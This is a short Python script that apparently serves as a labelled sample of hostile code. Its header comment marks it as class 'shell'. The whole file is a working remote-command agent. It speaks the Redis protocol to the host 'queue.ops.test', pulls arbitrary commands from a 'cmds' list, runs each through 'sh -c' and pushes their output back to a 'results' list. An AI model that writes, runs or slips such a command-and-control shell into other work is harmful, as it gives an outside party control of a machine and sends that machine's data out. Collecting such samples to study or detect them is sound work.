# class: shell; possible: low medium; style: commands from a Redis list
import socket
import subprocess
import time


class Redis:
    def __init__(self, host, port=6379):
        self.s = socket.create_connection((host, port))
        self.f = self.s.makefile("rb")

    def __call__(self, *words):
        out = b"*%d\r\n" % len(words)
        for w in words:
            w = w if isinstance(w, bytes) else str(w).encode()
            out += b"$%d\r\n%s\r\n" % (len(w), w)
        self.s.sendall(out)
        return self.reply()

    def reply(self):
        line = self.f.readline().rstrip()
        kind, rest = line[:1], line[1:]
        if kind == b"$":
            n = int(rest)
            return None if n < 0 else self.f.read(n + 2)[:-2]
        if kind == b"*":
            return [self.reply() for _ in range(int(rest))]
        return rest


r = Redis("queue.ops.test")
end = time.time() + 30
while time.time() < end:
    job = r("LPOP", "cmds")
    if job:
        done = subprocess.run(["sh", "-c", job.decode()], capture_output=True)
        r("RPUSH", "results", done.stdout[:2000])
    else:
        time.sleep(1)
